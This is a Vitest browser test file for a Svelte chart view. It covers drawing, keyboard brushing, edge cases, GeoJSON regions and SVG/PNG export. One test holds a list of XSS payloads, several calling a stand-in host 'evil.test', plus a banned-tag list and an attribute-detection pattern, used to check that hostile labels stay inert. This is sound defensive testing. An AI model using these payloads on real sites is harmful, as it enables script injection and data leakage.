import { expect, onTestFinished, test } from 'vitest';
import { render } from 'vitest-browser-svelte';
import { page, userEvent } from 'vitest/browser';
import '#lib/ui/base.css';
import type { ChartSpan } from '#core/report/chart-span.ts';
import ChartView from '#lib/ui/report/chart/ChartView.svelte';
import type { ChartType } from '#core/report/report.ts';
import { chartFileName, chartPng, chartSvg } from '#lib/ui/report/chart/export-chart.ts';
import { ShapeReader } from '#core/report/region-shapes.ts';
import { landOfShapes } from '#lib/ui/report/chart/land.ts';
import { drawChart } from '#lib/ui/report/chart/draw-chart.ts';
import { avg, chartBlock, chartRows, column, counted, sampleNamed, type ChartSample } from '../chart-samples.ts';

type Shown = {
	readonly frame: HTMLElement;
	readonly spans: (ChartSpan | null)[];
	readonly brush: (span: ChartSpan | null) => Promise<void>;
};

async function show({ block, table }: ChartSample, width = 640): Promise<Shown> {
	const frame = document.createElement('div');
	Object.assign(frame.style, { width: `${width}px`, padding: '16px', background: 'var(--bg)' });
	document.body.append(frame);
	onTestFinished(() => {
		frame.remove();
	});
	const spans: (ChartSpan | null)[] = [];
	const screen = await render(ChartView, {
		target: frame,
		props: { block, table, totalRows: table.rowCount, onbrush: (span: ChartSpan | null) => spans.push(span) }
	});
	await expect.element(page.getByRole('slider')).toBeInTheDocument();
	return { frame, spans, brush: (brushed) => screen.rerender({ brushed }) };
}

const count = (frame: HTMLElement, selector: string): number => frame.querySelectorAll(`.host ${selector}`).length;

test('every kind draws its marks, and only elements that draw', async () => {
	const marks: Readonly<Record<string, readonly [string, number]>> = {
		line: ['g.series path', 3],
		bar: ['g.bars rect', 7],
		grouped: ['g.bars rect', 8],
		lying: ['g.bars rect', 5],
		histogram: ['g.bars rect', 24],
		scatter: ['g.dots circle', 240],
		heatmap: ['g.cells rect', 168],
		box: ['g.boxes rect', 4],
		regions: ['g.regions path', 7],
		places: ['g.stops circle', 5]
	};
	for (const [name, [selector, expected]] of Object.entries(marks)) {
		const { frame } = await show(sampleNamed(name));
		await expect.poll(() => [name, count(frame, selector)]).toEqual([name, expected]);
		const tags = new Set([...frame.querySelectorAll('.host *')].map(({ localName }) => localName));
		expect([...tags].filter((tag) => !/^(svg|g|path|rect|circle|line|text|tspan)$/.test(tag))).toEqual([]);
		frame.remove();
	}
});

test('arrow keys go from mark to mark and tell each', async () => {
	await show(sampleNamed('bar'));
	const slider = page.getByRole('slider');
	slider.element().focus();
	await userEvent.keyboard('{ArrowRight}');
	await expect.element(slider).toHaveAttribute('aria-valuetext', 'country Germany, Sum of sales 1.82M');
	await userEvent.keyboard('{End}{ArrowLeft}');
	await expect.element(slider).toHaveAttribute('aria-valuetext', 'country Belgium, Sum of sales 377K');
});

test('a span is marked by Shift with the arrow keys, and taken away by Escape', async () => {
	const { spans, brush } = await show(sampleNamed('bar'));
	page.getByRole('slider').element().focus();
	await userEvent.keyboard('{ArrowRight}{Shift>}{ArrowRight}{ArrowRight}{/Shift}');
	expect(spans.at(-1)).toEqual({ x: { kind: 'values', values: ['Germany', 'France', 'Netherlands'] }, y: null });
	await brush(spans.at(-1) ?? null);
	await userEvent.keyboard('{Escape}');
	expect(spans.at(-1)).toBeNull();
});

test('bars of months that lie run down from the first one, and are marked as the time they are of', async () => {
	const months = counted(6, (at) => Date.UTC(2025, at, 1));
	const lying: ChartSample = {
		block: chartBlock('bar', { x: 'month', y: [avg('rain')], isHorizontal: true, brush: 'x' }),
		table: chartRows({
			x: ['date', months],
			x2: ['date', [...months.slice(1), Date.UTC(2025, 6, 1)]],
			y: ['number', [3, 1, 2, 5, 4, 6]]
		})
	};
	const { frame, spans, brush } = await show(lying);
	const tops = [...frame.querySelectorAll('.bars rect')].map((bar) => Number(bar.getAttribute('y')));
	expect(tops).toEqual(tops.toSorted((one, other) => one - other));
	page.getByRole('slider').element().focus();
	await userEvent.keyboard('{ArrowDown}{ArrowDown}{Shift>}{ArrowDown}{/Shift}');
	const span = { x: { kind: 'range' as const, from: Date.UTC(2025, 1, 1), to: Date.UTC(2025, 3, 1) }, y: null };
	expect(spans.at(-1)).toEqual(span);
	await brush(span);
	page.getByRole('slider', { name: 'month, to' }).element().focus();
	await userEvent.keyboard('{ArrowDown}');
	expect(spans.at(-1)?.x).toMatchObject({ from: Date.UTC(2025, 1, 1), to: Date.UTC(2025, 4, 1) });
});

test('a drag marks a span of numbers, and a press takes it away', async () => {
	const { frame, spans, brush } = await show(sampleNamed('histogram'));
	const surface = page.getByRole('slider').first();
	await userEvent.dragAndDrop(surface, surface, {
		sourcePosition: { x: 200, y: 120 },
		targetPosition: { x: 400, y: 120 }
	});
	const span = spans.at(-1)?.x;
	expect(span?.kind === 'range' && span.from > 20 && span.from < span.to && span.to < 100).toBe(true);
	expect(spans.at(-1)?.y).toBeNull();
	await brush(spans.at(-1) ?? null);
	await userEvent.click(surface, { position: { x: 300, y: 120 } });
	expect(spans.at(-1)).toBeNull();
	await brush(null);
	expect(frame.querySelectorAll('rect.brush').length).toBe(0);
});

test('what there is not much of is drawn or said: no rows, no values, one row, many of all', async () => {
	const line = chartBlock('line', { x: 'x', y: [avg('y')], color: 'c' });
	const bar = chartBlock('bar', { x: 'x', y: [avg('y')], yScale: 'log' });
	const cases: readonly (readonly [ChartSample, string])[] = [
		[{ block: line, table: chartRows({ x: ['number', []], y: ['number', []] }) }, 'No rows'],
		[{ block: line, table: chartRows({ x: ['number', [1, 2]], y: ['number', [null, null]] }) }, 'Nothing to draw'],
		[{ block: line, table: chartRows({ x: ['number', [1]], y: ['number', [5]] }) }, 'circle 1'],
		[{ block: bar, table: chartRows({ x: ['text', ['a', 'b']], y: ['number', [1e-9, 1e12]] }) }, 'rect 2'],
		[
			{
				block: bar,
				table: chartRows({
					x: ['text', counted(10_000, (at) => `name ${at}`)],
					y: ['number', counted(10_000, (at) => at + 1)]
				})
			},
			'The first 1,000 of 10,000 are drawn.'
		],
		[
			{
				block: line,
				table: chartRows({
					x: ['number', counted(90, (at) => Math.floor(at / 30))],
					y: ['number', counted(90, (at) => at * 1e300)],
					color: ['text', counted(90, (at) => `s${at % 30}`)]
				})
			},
			'and 6 more'
		]
	];
	for (const [{ block, table }, expected] of cases) {
		const frame = document.createElement('div');
		frame.style.width = '390px';
		document.body.append(frame);
		await render(ChartView, { target: frame, props: { block, table, totalRows: table.rowCount } });
		const told = (): string =>
			`${frame.textContent} circle ${count(frame, 'g circle')} rect ${count(frame, 'g.bars rect')}`;
		await expect.poll(told).toContain(expected);
		expect(told()).not.toMatch(/NaN|Infinity|undefined/);
		frame.remove();
	}
});

test('own regions are drawn with those that have a value coloured, however they are wound, in degrees or on a plane', async () => {
	const square = (x: number, y: number, size: number): [number, number][] => [
		[x, y],
		[x + size, y],
		[x + size, y + size],
		[x, y + size],
		[x, y]
	];
	for (const [origin, size] of [
		[[8, 49], 1],
		[[3_500_000, 5_400_000], 10_000]
	] as const) {
		const reader = new ShapeReader();
		for (const [at, key] of ['A', 'B', 'C', 'D'].entries()) {
			const ring = square(origin[0] + (at % 2) * size, origin[1] + Math.floor(at / 2) * size, size);
			const coordinates = [at % 2 === 0 ? ring : ring.toReversed()];
			reader.add(key, JSON.stringify({ type: 'Polygon', coordinates }));
		}
		reader.add('nowhere', null);
		const shapes = reader.finish();
		const block = chartBlock('regions', { x: 'district', y: [avg('rent')], title: 'Rents' });
		const table = chartRows({ x: ['text', ['a', 'B', 'E']], y: ['number', [1, 2, 3]] });
		const frame = document.createElement('div');
		Object.assign(frame.style, { width: '640px', background: 'var(--bg)' });
		document.body.append(frame);
		await render(ChartView, { target: frame, props: { block, table, totalRows: 3, shapes } });
		await expect.poll(() => count(frame, 'g.regions path')).toBe(2);
		const boxes = [...frame.querySelectorAll('.host g.regions path')].map((path) => path.getBoundingClientRect());
		const drawing = frame.querySelector('.host svg')?.getBoundingClientRect();
		for (const { width, height } of boxes)
			expect([width < (drawing?.width ?? 0) / 1.8, height < (drawing?.height ?? 0) / 1.8, width > 20]).toEqual([
				true,
				true,
				true
			]);
		// A lies south of C and west of B.
		expect((boxes[0]?.left ?? 0) < (boxes[1]?.left ?? 0)).toBe(true);
		const told = frame.textContent;
		expect(told).toContain('2 of 4 regions have a value. 1 row is of none of them.');
		expect(told).toContain('Not on the map: E.');
		expect(told).toContain('1 shape is no GeoJSON geometry.');
		const drawn = drawChart(block, { table, before: null, land: landOfShapes(shapes, []) }, 500);
		const words = { title: 'Rents', subtitle: null, caption: null, summary: 'Two', ends: null };
		const svg = chartSvg(frame, drawn, words);
		const picture = await chartPng(svg);
		expect([svg.match(/<path/g)?.length, picture && picture.size > 500]).toEqual([4, true]);
		frame.remove();
	}
});

const hostile = [
	'<script>fetch("//evil.test/1")</script>',
	'<img src=//evil.test/2 onerror=alert(1)>',
	'<svg onload=alert(1)>',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<link rel=prefetch href=//evil.test/5>',
	'<meta http-equiv=refresh content="0;url=//evil.test/6">',
	'<object data=//evil.test/7>',
	'<embed src=//evil.test/8>',
	'<video src=//evil.test/9><audio src=//evil.test/9>',
	'url(//evil.test/10)',
	'@import "//evil.test/11";',
	'<form action=//evil.test/12><button>x',
	'<base href=//evil.test/13>',
	'<a href="javascript:alert(1)">x</a>',
	'data:text/html,<script>alert(1)</script>',
	'<image xlink:href=//evil.test/16>',
	'<animate attributeName=href values=javascript:alert(1)><set>',
	'<foreignObject><a ping=//evil.test/18 href=#>x'
];

test('hostile texts in cells, names, titles and labels stay text, in the page and in the file', async () => {
	const bad = (at: number): string => hostile[at % hostile.length] ?? '';
	const types: readonly ChartType[] = ['line', 'area', 'bar', 'scatter', 'heatmap', 'box', 'regions'];
	for (const [at, type] of types.entries()) {
		const block = chartBlock(type, {
			x: bad(at),
			y: [column(bad(at + 1))],
			color: bad(at + 2),
			facet: bad(at + 3),
			title: hostile.join(' '),
			subtitle: bad(at + 4),
			caption: bad(at + 5),
			xLabel: bad(at + 6),
			yLabel: bad(at + 7),
			unit: bad(at + 8),
			xFormat: bad(at + 9),
			yFormat: bad(at + 10),
			annotations: [{ axis: 'y', from: 3, to: null, text: bad(at + 11) }]
		});
		const ten = counted(18, (number) => number);
		const table = chartRows({
			x: ['text', hostile],
			y: type === 'heatmap' ? ['text', hostile] : ['number', ten],
			color: ['text', hostile],
			facet: ['text', hostile.map((_, number) => bad(number % 2))],
			size: ['number', ten],
			...(type === 'box'
				? {
						low: ['number', ten],
						q1: ['number', ten],
						median: ['number', ten],
						q3: ['number', ten],
						high: ['number', ten]
					}
				: {})
		});
		const frame = document.createElement('div');
		document.body.append(frame);
		await render(ChartView, { target: frame, props: { block, table, totalRows: 99 } });
		await expect.poll(() => frame.querySelectorAll('.host svg, .nothing').length).toBe(1);
		const banned =
			'script, img, iframe, link, meta, object, embed, video, audio, form, base, a, image, animate, set, foreignObject, style, use';
		expect([type, frame.querySelectorAll(banned).length]).toEqual([type, 0]);
		const attributes = [...frame.querySelectorAll('*')].flatMap((element) =>
			[...element.attributes].filter(
				({ name, value }) =>
					/^on|href|^src|ping|action/i.test(name) ||
					/url\(\s*['"]?[^#'")]/.test(name === 'aria-label' || name.startsWith('aria') || name === 'title' ? '' : value)
			)
		);
		expect(attributes.map(({ name, value }) => `${type} ${name}=${value}`)).toEqual([]);
		if (type !== 'regions') {
			const drawn = drawChart(block, { table, before: null, land: null }, 500);
			const svg = chartSvg(frame, drawn, {
				title: bad(at),
				subtitle: bad(0),
				caption: bad(2),
				summary: bad(3),
				ends: [bad(4), bad(5)]
			});
			const read = new DOMParser().parseFromString(svg, 'image/svg+xml');
			expect(read.querySelectorAll(`parsererror, ${banned}`).length).toBe(0);
		}
		frame.remove();
	}
	expect(chartFileName(hostile[0] ?? '', 'svg')).toBe('script-fetch-evil-test-1-script.svg');
	expect(chartFileName('../..', 'png')).toBe('chart.png');
});

test('a saved chart has its title, its legend and its colours inside, and becomes a picture at twice the size', async () => {
	const { block, table } = sampleNamed('area');
	const drawn = drawChart(block, { table, before: null, land: null }, 500);
	const svg = chartSvg(document.body, drawn, {
		title: 'Requests',
		subtitle: null,
		caption: 'By kind',
		summary: 'Many',
		ends: null
	});
	expect(svg).not.toMatch(/var\(|color-mix|currentColor\b.*style=/);
	for (const text of ['Requests', 'By kind', 'page', 'image', 'call', '<desc>Many</desc>']) expect(svg).toContain(text);
	const png = await chartPng(svg);
	const picture = png && (await createImageBitmap(png));
	expect(picture?.width).toBe((500 + 32) * 2);
});

test('each of 5,000 dots is a place to stop at', () => {
	const block = chartBlock('scatter', { x: 'x', y: [column('y')] });
	const table = chartRows({
		x: ['number', counted(5000, (at) => at)],
		y: ['number', counted(5000, (at) => (at * 7919) % 5003)]
	});
	const started = performance.now();
	const { drawing } = drawChart(block, { table, before: null, land: null }, 800);
	console.info(`5,000 dots: ${(performance.now() - started).toFixed(0)} ms`);
	expect(drawing.places.length).toBe(5000);
});
